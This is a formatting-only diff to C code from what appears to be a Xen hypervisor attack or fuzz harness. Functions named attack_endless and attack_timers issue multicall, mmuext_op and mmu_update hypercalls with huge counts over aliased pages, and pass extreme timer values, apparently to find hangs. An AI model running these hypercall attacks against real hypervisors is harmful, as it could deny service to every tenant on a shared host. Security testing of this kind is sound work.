@@ -79,7 +79,8 @@ const char *attack_endless(void)
     for (unsigned int i = 0; i < PAGE_SIZE / sizeof(*calls); i++) {
         calls[i].op = __HYPERVISOR_xen_version;
     }
-    why = alias() ? endless_call("endless multicall", __HYPERVISOR_multicall, 1UL << 32) : "no alias";
+    why = alias() ? endless_call("endless multicall", __HYPERVISOR_multicall, 1UL << 32)
+                  : "no alias";
     pages_reset();
     for (unsigned int i = 0; !why && i + sizeof(*ops) <= PAGE_SIZE; i += sizeof(*ops)) {
         ops->cmd = MMUEXT_TLB_FLUSH_LOCAL;
@@ -89,14 +90,14 @@ const char *attack_endless(void)
     for (unsigned int i = 0; !why && i < 512; i++) {
         pages[0][i] = MMUEXT_TLB_FLUSH_LOCAL;
     }
-    why = why ? why
+    why = why       ? why
           : alias() ? endless_call("endless mmuext_op", __HYPERVISOR_mmuext_op, 0x7fffffff)
                     : "no alias";
     pages_reset();
     for (unsigned int i = 0; !why && i < 256; i++) {
         pages[0][2 * i] = maddr(pages[4]);
     }
-    why = why ? why
+    why = why       ? why
           : alias() ? endless_call("endless mmu_update", __HYPERVISOR_mmu_update, 0x7fffffff)
                     : "no alias";
     event_close((evtchn_port_t)port);
@@ -108,8 +109,9 @@ const char *attack_endless(void)
 const char *attack_timers(void)
 {
     static const uint64_t some[] = {
-        1, 0x7fffffffffffffff, 0x7ffffffffffffffe, 0x8000000000000000, ~0UL, 0x7fffffff00000000,
-        1UL << 56, 1UL << 60, 1UL << 62,
+        1,         0x7fffffffffffffff, 0x7ffffffffffffffe, 0x8000000000000000,
+        ~0UL,      0x7fffffff00000000, 1UL << 56,          1UL << 60,
+        1UL << 62,
     };
     struct sched_poll poll = { .nr_ports = 0 };
 
